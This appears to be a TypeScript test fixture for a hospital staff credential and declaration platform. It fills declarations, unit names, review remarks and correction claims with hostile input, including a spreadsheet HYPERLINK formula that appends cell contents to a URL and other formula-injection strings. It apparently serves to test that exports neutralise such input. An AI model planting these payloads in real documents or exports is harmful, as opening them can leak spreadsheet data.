import { randomUUID } from 'node:crypto';
import {
  CREDENTIAL_KINDS,
  credentialFields,
  DEFAULT_MAX_LENGTH,
  DETAILS_FIELDS,
  FINDING_CODES,
  type FormDefinition,
  isForCandidate,
  isForStage,
} from '@htp/domain';
import { documentFile, idCardLabel } from '@htp/test-kit';
import { eventually } from '../ground/eventually.ts';
import type { Ground } from '../ground/ground.ts';
import { type Session, signInCandidate, signInStaff } from '../ground/people.ts';
import { verifiedByHand } from '../journey/by-hand.ts';
import { HOSTILE } from './hostile.ts';
import { done, send } from './people.ts';

/** What begins a formula and is still a word. */
const FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"点")';
/** What the name of a unit may begin with. */
export const NAME = '-1-1样例医院';
const DAY_MS = 86_400_000;

/** Somebody in whose data everybody has typed, and how often the API refused it. */
export interface Filled {
  readonly who: Session;
  readonly expected: readonly string[];
  /** What must be part of some text. */
  readonly contained: readonly string[];
  readonly refused: number;
}

export type Format = 'workbook' | 'archive';

/** First the others, then he himself: what he adds to his credentials he could not submit. */
export async function filledByEverybody(ground: Ground): Promise<Filled> {
  const who = await signInCandidate(ground.url(), 'seeded3');
  const contained = await filledDeclaration(ground, who);
  return { who, contained, ...(await filledCredentials(ground, who)) };
}

/** He types all there is into his credentials. */
async function filledCredentials(
  ground: Ground,
  who: Session,
): Promise<Pick<Filled, 'expected' | 'refused'>> {
  const url = ground.url();
  const expected: string[] = [];
  let refused = 0;
  const add = async (kind: string, fields: Readonly<Record<string, string>>) => {
    const added = await send<{ id: string }>(url, who, 'POST', '/api/credentials', { kind, fields });
    if (added.status !== 201) return void refused++;
    const path = `/api/credentials/${added.body.id}`;
    const read = await done<{ fields: Readonly<Record<string, unknown>> }>(url, who, 'GET', path);
    expected.push(...Object.keys(fields).map((name) => read.fields[name] as string));
  };
  for (const text of HOSTILE) await add('education', { school: text, major: text });
  for (const kind of CREDENTIAL_KINDS) await add(kind, everyText(credentialFields(kind)));
  return { expected: expected.filter(Boolean), refused };
}

/** A hostile text in every field of a form that takes one, another in each. */
function everyText(form: FormDefinition): Record<string, string> {
  const free = Object.entries(form).filter(([, { type, pattern }]) => type === 'text' && !pattern);
  return Object.fromEntries(
    free.map(([name, { maxLength = DEFAULT_MAX_LENGTH }], at) => [
      name,
      `=1+${at}+A${at}`.slice(0, maxLength),
    ]),
  );
}

/** He declares from a unit with a hostile name; its officer sends it back with remarks, he corrects it, and is no member any more. */
async function filledDeclaration(ground: Ground, who: Session): Promise<string[]> {
  const url = ground.url();
  const { unitId, officer } = await renamedUnit(ground, who);
  const { items } = await done<{ items: { id: string }[] }>(url, who, 'GET', '/api/declarations');
  const path = `/api/declarations/${items[0]!.id}`;
  const read = () => done<{ version: number; statementVersion: string }>(url, who, 'GET', path);
  const save = async (details: object) => {
    const { version } = await read();
    await done(url, who, 'PATCH', path, { version, sections: { declaration_details: details } });
  };
  await save({ eligibilityExplanation: FORMULA });
  const { version, statementVersion } = await read();
  await done(url, who, 'POST', `${path}/submission`, { version, statementVersion });
  await sentBack(ground, officer, items[0]!.id);
  await save({ residencyCertificate: true, residencyEndYear: 2024, ...everyText(DETAILS_FIELDS) });
  const member = `/api/units/${unitId}/members/${who.accountId}`;
  await done(url, officer, 'DELETE', member, { reason: FORMULA });
  return [FORMULA, NAME];
}

/** The officer asks for it, the province grants it. */
async function renamedUnit(ground: Ground, who: Session): Promise<{ unitId: string; officer: Session }> {
  const url = ground.url();
  const { rows } = await ground.owner.query<{ id: string; officer: string; change: object }>(
    `SELECT u.id, s.user_name AS officer, jsonb_build_object('institutionCode', u.institution_code, 'institutionCodeKind',
       'unified_social_credit_code', 'categoryCode', u.category_code, 'divisionCode', u.division_code,
       'supervisingUnitId', u.supervising_unit_id) AS change
     FROM affiliation a JOIN unit u ON u.id = a.unit_id JOIN role_grant g ON g.unit_id = u.id
     JOIN staff_account s ON s.account_id = g.account_id
     WHERE a.account_id = $1 AND a.ended_at IS NULL AND s.user_name LIKE 'seed-%' LIMIT 1`,
    [who.accountId],
  );
  const { id: unitId, officer: userName, change } = rows[0]!;
  const officer = await signInStaff(url, userName);
  const reviewer = await signInStaff(url, 'province-reviewer');
  const form = new FormData();
  form.append('file', new Blob([Uint8Array.from(await documentFile('nurse-licence.jpg'))]), 'proof.jpg');
  const { id: proof } = await done<{ id: string }>(url, null, 'POST', '/api/registrations/proofs', form);
  const asked = { ...change, name: NAME, proof: [proof] };
  await done(url, officer, 'POST', `/api/registry/units/${unitId}/change-registrations`, asked);
  const { rows: found } = await ground.owner.query<{ id: string }>(
    'SELECT id FROM registration WHERE unit_id = $1',
    [unitId],
  );
  const path = `/api/review/registrations/${found[0]!.id}`;
  await done(url, reviewer, 'POST', `${path}/claim`);
  const { contentTag } = await done<{ contentTag: string }>(url, reviewer, 'GET', path);
  const decision = { decision: 'approved' };
  await done(url, reviewer, 'POST', `${path}/decision`, decision, { 'if-match': contentTag });
  return { unitId, officer };
}

/** What the commission says of him is reported as wrong: once the unit corrects it, once it declines. @returns who he is */
export async function filledCorrections(ground: Ground): Promise<Filled> {
  const url = ground.url();
  const who = await signInCandidate(url, 'corrected');
  const [officer, reviewer] = await Promise.all([
    signInStaff(url, 'hospital-officer'),
    signInStaff(url, 'province-reviewer'),
  ]);
  const { name, number: documentNumber } = await idCardLabel('front-easy-1');
  await verifiedByHand(ground, who, reviewer, { name, documentNumber });
  const { rows } = await ground.owner.query<{ unitId: string }>(
    `SELECT id AS "unitId" FROM unit WHERE name = '江城样例医院'`,
  );
  // Of the demo: printed on its address list.
  await done(url, who, 'PUT', '/api/affiliation', { ...rows[0]!, confirmationCode: 'JCYY-2345' });
  await done(url, who, 'POST', '/api/credentials/commission-fetches');
  const credentialId = await eventually(
    ground,
    `SELECT id FROM credential WHERE owner_id = $1 AND source = 'commission' AND kind = 'education'`,
    [who.accountId],
  );
  const report = async (field: string, step: string, answer: object) => {
    const claim = { credentialId, field, claimed: FORMULA, explanation: FORMULA };
    const { id } = await done<{ id: string }>(url, who, 'POST', '/api/corrections', claim);
    await done(url, officer, 'POST', `/api/review/corrections/${id}/${step}`, { version: 1, ...answer });
  };
  await report('school', 'correction', { value: FORMULA });
  await report('major', 'refusal', { reason: FORMULA });
  return { who, expected: [FORMULA], contained: [], refused: 0 };
}

/** With a remark on it, and one on what the machine found. */
async function sentBack(ground: Ground, officer: Session, id: string): Promise<void> {
  const url = ground.url();
  const path = `/api/review/declarations/${id}`;
  await done(url, officer, 'POST', `${path}/claim`);
  const { contentTag } = await done<{ contentTag: string }>(url, officer, 'GET', path);
  const code = FINDING_CODES.find((each) => isForStage(each, 'unit') && isForCandidate(each));
  const finding = randomUUID();
  await ground.owner.query(
    `INSERT INTO declaration_finding (id, submission_id, digest, code, severity, section, field, params, places, found_at)
     SELECT $2, submission_id, '\\x00', $3, 'high', 'education', 'diplomaPicture', '{}', '\\x00', now()
     FROM declaration WHERE id = $1`,
    [id, finding, code],
  );
  const resolution = { version: 0, remark: FORMULA };
  await done(url, officer, 'PUT', `${path}/findings/${finding}/resolution`, resolution);
  const returned = { verdict: 'returned', reason: 'R20', remark: FORMULA };
  await done(url, officer, 'PUT', `${path}/sections/declaration_details`, returned);
  const correctBy = new Date(Date.now() + 14 * DAY_MS).toISOString().slice(0, 10);
  const decision = { decision: 'returned', reason: 'R20', remark: FORMULA, correctBy };
  await done(url, officer, 'POST', `${path}/decision`, decision, { 'if-match': contentTag });
}
